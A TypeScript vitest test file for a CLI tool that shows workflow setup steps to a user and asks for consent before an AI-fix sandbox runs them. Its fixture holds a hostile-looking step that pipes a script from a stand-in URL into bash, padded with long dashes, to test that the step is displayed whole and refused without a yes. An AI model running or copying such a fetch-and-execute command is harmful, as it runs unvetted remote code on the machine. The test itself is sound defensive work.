import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { confirmSetUp } from '../../../src/cli/try/confirm-set-up.ts';
import { readWorkflowChecks, readWorkflowFixers } from '../../../src/cli/try/workflow-checks.ts';

const path = '.github/workflows/ai-fix-sandbox.yml';
const node = readFileSync(new URL('../../../src/sandbox-workflows/node.yml', import.meta.url), 'utf8');
const install = node.slice(node.indexOf('      - name: Install\n'), node.indexOf('      - name: Check\n'));
const forFixers = `      - name: More
        if: inputs.mode == 'recipe'
        env:
          FROM: https://example.com/x.sh
        run: curl "$FROM" | bash; echo ${'-'.repeat(5_000)} the end

`;

async function confirm(text: string, answer: string | null, { named = null as string | null, yes = false } = {}) {
  const found = readWorkflowChecks(text, path);
  if (found.kind !== 'found') throw new Error(found.why);
  const shown: string[] = [];
  const order = { setUp: named, mayProceed: yes, signal: new AbortController().signal };
  const desk = { show: (words: string) => void shown.push(words), ask: async () => answer };
  const refused = await confirmSetUp(found, readWorkflowFixers(text, path), order, desk).then(
    () => null,
    (error: Error) => error.message,
  );
  return { shown: shown.join(), refused };
}

test.each([
  ['beside an installation', node.replace(install, `${install}${forFixers}`)],
  ['alone', node.replace(install, forFixers)],
])('a step for fixers alone is shown whole and asked about, %s', async (_where, text) => {
  const { shown, refused } = await confirm(text, null);

  expect(refused).toMatch(/nobody said yes/);
  expect(shown).toMatch(/FROM="https:\/\/example\.com\/x\.sh"\n *curl "\$FROM" \| bash; echo -{5000} the end/);
  expect(shown).toContain('npm install --package-lock-only');
  expect((await confirm(text, 'y')).refused).toBeNull();
});

test('what stands before checks and fixers is shown once', async () => {
  const { shown } = await confirm(node, 'n');

  expect(shown.split('No dependencies, nothing to install.')).toHaveLength(2);
});

test.each([{ named: 'npm ci' }, { yes: true }])('nobody is asked where it is settled already: %j', async (settled) => {
  expect(await confirm(node, null, settled)).toEqual({ shown: '', refused: null });
});
